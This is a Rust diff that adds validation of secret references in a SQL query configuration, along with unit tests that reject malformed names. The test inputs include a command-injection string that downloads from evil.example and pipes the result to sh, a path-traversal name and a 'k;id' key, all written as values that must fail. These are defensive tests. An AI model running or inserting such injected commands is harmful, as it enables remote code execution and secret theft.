@@ -3,7 +3,7 @@
 use std::collections::BTreeMap;
 use std::time::Duration;
 
-use super::{Unusable, timeout, unusable};
+use super::{Unusable, secret, timeout, unusable};
 use crate::api::model_deployment::{SecretKeyRef, SqlQuery};
 use crate::text::query::render_sql;
 
@@ -31,8 +31,8 @@ pub(super) fn fill_in(it: &SqlQuery, variables: &BTreeMap<&str, String>) -> Resu
     Ok(SqlQuestion {
         statement,
         values,
-        connection: it.connection.secret_key_ref.clone(),
-        ca: it.ca.as_ref().map(|it| it.secret_key_ref.clone()),
+        connection: secret("sql.connection", &it.connection.secret_key_ref)?,
+        ca: it.ca.as_ref().map(|it| secret("sql.ca", &it.secret_key_ref)).transpose()?,
         timeout: timeout("sql.timeout", it.timeout.as_ref())?,
     })
 }
@@ -61,6 +61,26 @@ mod tests {
     }
 
     #[test]
+    fn a_secret_is_named_by_nothing_but_a_name() {
+        let named = |name: &str, key: &str| {
+            template(json!({"connection": {"secretKeyRef": {"name": name, "key": key}}})).check()
+        };
+        assert_eq!(named("warehouse-app.v2", "ca_1.crt"), Ok(()));
+        for (name, key) in [
+            ("", "k"),
+            ("x;curl${IFS}evil.example|sh;", "k"),
+            ("../other/secrets/x", "k"),
+            ("x?watch=1", "k"),
+            ("Upper", "k"),
+            ("-x", "k"),
+            ("x", ""),
+            ("x", "k;id"),
+        ] {
+            assert_eq!(named(name, key).unwrap_err().field, "sql.connection", "{name} {key}");
+        }
+    }
+
+    #[test]
     fn whatever_cannot_be_used_names_its_field() {
         assert_eq!(template(json!({"timeout": "10s"})).check(), Ok(()));
         for (field, value) in [
@@ -68,6 +88,7 @@ mod tests {
             ("query", "SELECT {{ revison }}"),
             ("query", " \n"),
             ("timeout", "11s"),
+            ("timeout", "99ms"),
         ] {
             let error = template(json!({field: value})).check().unwrap_err();
             assert_eq!(error.field, format!("sql.{field}"), "{value}");
